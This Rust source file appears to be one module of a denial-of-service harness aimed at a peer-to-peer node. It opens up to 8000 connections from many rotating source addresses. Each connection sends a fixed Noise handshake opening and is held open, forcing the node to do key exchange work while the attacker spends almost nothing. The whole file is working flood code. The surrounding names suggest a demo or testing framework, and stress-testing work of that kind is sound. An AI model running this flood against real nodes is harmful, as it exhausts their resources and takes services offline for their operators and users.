//! A flood of connections from as many addresses, each with the first message of a handshake, always
//! the same: the node pays for its answer with a key and two exchanges, the attacker with nothing.

use std::{sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    sync::Semaphore,
    task::JoinSet,
    time::timeout,
};

use super::{Attacker, pace::Pace};
use crate::{
    attack::{addresses, sockets},
    demo::multistream,
};

/// Connections that it holds at once.
const AT_ONCE: usize = 8000;
/// How long it holds a connection, unless the node closes it.
const HOLD: Duration = Duration::from_secs(10);

pub async fn run(attacker: &Attacker, rate: f64) {
    let opening: Arc<[u8]> = opening().into();
    each_connection(attacker, rate, AT_ONCE, move |mut socket| {
        let opening = opening.clone();
        async move {
            if socket.write_all(&opening).await.is_ok() {
                hold(&mut socket).await;
            }
        }
    })
    .await;
}

/// Connects at a rate, from one address after the other, and does something with each connection.
/// One that finds no place or no socket is not tried, which shows in the rate.
pub async fn each_connection<F>(
    attacker: &Attacker,
    rate: f64,
    at_once: usize,
    abuse: impl Fn(tokio::net::TcpStream) -> F + Clone + Send + 'static,
) where
    F: Future<Output = ()> + Send,
{
    let places = Arc::new(Semaphore::new(at_once));
    let mut connections = JoinSet::new();
    let mut pace = Pace::alone(rate);
    let mut index = 0;
    loop {
        for _ in 0..pace.due().await {
            let Ok(place) = places.clone().try_acquire_owned() else { break };
            attacker.tried(1);
            index += 1;
            let (from, to) = (addresses::hostile(index), attacker.target.socket);
            let abuse = abuse.clone();
            connections.spawn(async move {
                if let Ok(socket) = sockets::connect(from, to).await
                    && socket.set_zero_linger().is_ok()
                {
                    abuse(socket).await;
                }
                drop(place);
            });
        }
        while connections.try_join_next().is_some() {}
    }
}

/// Waits until the node hangs up, or for so long.
async fn hold(socket: &mut tokio::net::TcpStream) {
    let mut ignored = [0; 512];
    let closed = async { while matches!(socket.read(&mut ignored).await, Ok(1..)) {} };
    // Either is the end of it.
    let _ = timeout(HOLD, closed).await;
}

/// The proposal of noise, and its first message: a public key, here the base point of the curve.
fn opening() -> Vec<u8> {
    let mut bytes = multistream::proposal("/noise");
    bytes.extend_from_slice(&32u16.to_be_bytes());
    bytes.push(9);
    bytes.extend_from_slice(&[0; 31]);
    bytes
}
